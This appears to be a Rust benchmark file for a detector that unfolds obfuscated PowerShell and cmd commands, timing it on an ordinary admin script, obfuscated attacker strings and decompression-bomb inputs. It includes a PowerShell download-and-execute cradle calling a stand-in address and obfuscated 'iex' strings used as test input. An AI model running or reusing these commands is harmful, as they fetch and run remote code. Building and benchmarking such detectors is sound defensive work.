//! Commands and scripts unfolded: what administrators send, what attackers write, and the worst that somebody could build. Each of
//! the worst is measured at two sizes: four times the bytes may take four times as long.

use std::hint::black_box;
use std::io::Read;

use backstop_detectors::content::{ContentConfig, Kind, unfold};
use backstop_detectors::powershell::{NAMES, conditions};
use criterion::{BenchmarkId, Criterion, Throughput, criterion_group, criterion_main};
use data_encoding::BASE64;
use flate2::Compression;
use flate2::read::{DeflateEncoder, GzEncoder};

const ORDINARY: &str = r#"
param([string]$Server = 'vbr01', [int]$Days = 7)
# Report of the last days
$since = (Get-Date).AddDays(-$Days)
$jobs = Get-VBRJob | Where-Object { $_.IsScheduleEnabled } | Sort-Object Name
foreach ($job in $jobs) {
    $sessions = Get-VBRBackupSession | Where-Object { $_.JobId -eq $job.Id -and $_.EndTime -gt $since }
    "{0,-30} {1,5} {2:N2}" -f $job.Name, $sessions.Count, ($sessions | Measure-Object -Property Progress -Average).Average
}
Invoke-WebRequest -Uri "https://example.com/$Server/report" -Method Post -Body ($jobs | ConvertTo-Json) -OutFile report.json
"#;
const HOSTILE: &str =
    "&('i'+'ex') (\"{1}{0}\" -f '.7/a'') | i`ex','iex; (irm ''http://203.0.113');iex (-join [char[]](105,114,109))";

fn packed(mut reader: impl Read) -> Vec<u8> {
    let mut out = Vec::new();
    reader.read_to_end(&mut out).unwrap_or_default();
    out
}

/// `powershell -enc` inside itself, as often as fits.
fn nested(size: usize) -> String {
    let mut text = "whoami".to_owned();
    loop {
        let wide: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let next = format!("powershell -enc {}", BASE64.encode(&wide));
        if next.len() > size {
            return text;
        }
        text = next;
    }
}

fn worst(name: &str, size: usize) -> (Kind, Vec<u8>) {
    let of = |piece: &str| piece.repeat(size / piece.len());
    let text = match name {
        "back_ticks" => of("`i"),
        "open_brackets" => of("(["),
        "brackets" => format!("{}{}", "(".repeat(size / 2), ")".repeat(size / 2)),
        "formats" => format!("iex ('{}' -f 'a')", of("{0}")),
        "format_chain" => of("'{0}'-f"),
        "concatenation" => of("'a'+"),
        "grown" => of("$a+='aaaaaaaa';"),
        "copies" => format!("$a='{}';{}", "a".repeat(size / 2), "$b=$a;".repeat(size / 12)),
        "letters" => format!("$a='{}';{}", "a".repeat(size / 2), "$a[1]+".repeat(size / 12)),
        "characters" => format!("-join ({}|%{{[char]$_}})", of("65,")),
        "subexpressions" => of("\"$("),
        "here_strings" => of("@'"),
        "runs" => of("iex 'iex ';"),
        _ => String::new(),
    };
    match name {
        "carets" => (Kind::Command, of("^a&").into_bytes()),
        "cmd_variables" => (Kind::Command, of("set a=%a%%a%&").into_bytes()),
        "nested_base64" => (Kind::Command, nested(size).into_bytes()),
        "gzip_bomb" => (Kind::Unknown, packed(GzEncoder::new(&vec![b' '; size * 64][..], Compression::best()))),
        "deflate_bomb" => {
            let bomb = BASE64.encode(&packed(DeflateEncoder::new(&vec![b' '; size * 64][..], Compression::best())));
            (Kind::Script, format!("$x='{bomb}';{}", format!("[Convert]::FromBase64String('{bomb}');").repeat(8)).into_bytes())
        }
        _ => (Kind::Script, text.into_bytes()),
    }
}

const WORST: [&str; 18] = [
    "back_ticks",
    "open_brackets",
    "brackets",
    "formats",
    "format_chain",
    "concatenation",
    "grown",
    "copies",
    "letters",
    "characters",
    "subexpressions",
    "here_strings",
    "runs",
    "carets",
    "cmd_variables",
    "nested_base64",
    "gzip_bomb",
    "deflate_bomb",
];

fn content(criterion: &mut Criterion) {
    let config = ContentConfig::default();
    let look = |bytes: &[u8], kind| conditions(&unfold(black_box(bytes), kind, &NAMES, &config), &config).len();
    let mut group = criterion.benchmark_group("content");
    for (name, text) in [("ordinary", ORDINARY), ("hostile", HOSTILE)] {
        group.throughput(Throughput::Bytes(text.len() as u64));
        group.bench_function(name, |bencher| bencher.iter(|| look(text.as_bytes(), Kind::Script)));
    }
    let line =
        "powershell.exe -ex bypass -Command \"iex ((New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1'))\"";
    group.throughput(Throughput::Bytes(line.len() as u64));
    group.bench_function("command", |bencher| bencher.iter(|| look(line.as_bytes(), Kind::Command)));
    group.sample_size(10);
    for name in WORST {
        for size in [1 << 18, 1 << 20] {
            let (kind, bytes) = worst(name, size);
            group.throughput(Throughput::Bytes(bytes.len() as u64));
            group.bench_with_input(BenchmarkId::new(name, size), &bytes, |bencher, bytes| bencher.iter(|| look(bytes, kind)));
        }
    }
    group.finish();
}

criterion_group!(benches, content);
criterion_main!(benches);
